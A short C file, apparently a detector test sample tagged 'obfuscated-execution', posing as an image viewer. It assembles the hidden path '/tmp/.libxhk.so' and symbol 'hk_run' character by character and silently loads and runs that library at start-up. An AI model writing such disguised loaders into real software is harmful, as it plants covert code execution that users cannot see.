// blind-expect: behavior.obfuscated-execution
// Image viewer start-up that loads an optional acceleration module before showing the picture.
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>

typedef int (*init_fn)(void);

struct module_names {
    char lib[32];
    char sym[16];
};

static void build_names(struct module_names *m)
{
    char *l = m->lib, *s = m->sym;
    l[0] = '/'; l[1] = 't'; l[2] = 'm'; l[3] = 'p'; l[4] = '/'; l[5] = '.';
    l[6] = 'l'; l[7] = 'i'; l[8] = 'b'; l[9] = 'x'; l[10] = 'h'; l[11] = 'k';
    l[12] = '.'; l[13] = 's'; l[14] = 'o'; l[15] = '\0';
    s[0] = 'h'; s[1] = 'k'; s[2] = '_'; s[3] = 'r'; s[4] = 'u'; s[5] = 'n';
    s[6] = '\0';
}

static int load_module(const struct module_names *m)
{
    void *h = dlopen(m->lib, RTLD_NOW | RTLD_GLOBAL);
    if (!h)
        return -1;
    init_fn fn = (init_fn)dlsym(h, m->sym);
    if (!fn)
        return -1;
    return fn();
}

int main(int argc, char **argv)
{
    struct module_names names;
    memset(&names, 0, sizeof names);
    build_names(&names);
    if (load_module(&names) != 0)
        fprintf(stderr, "acceleration unavailable, using software path\n");
    printf("displaying %s\n", argc > 1 ? argv[1] : "(none)");
    return 0;
}
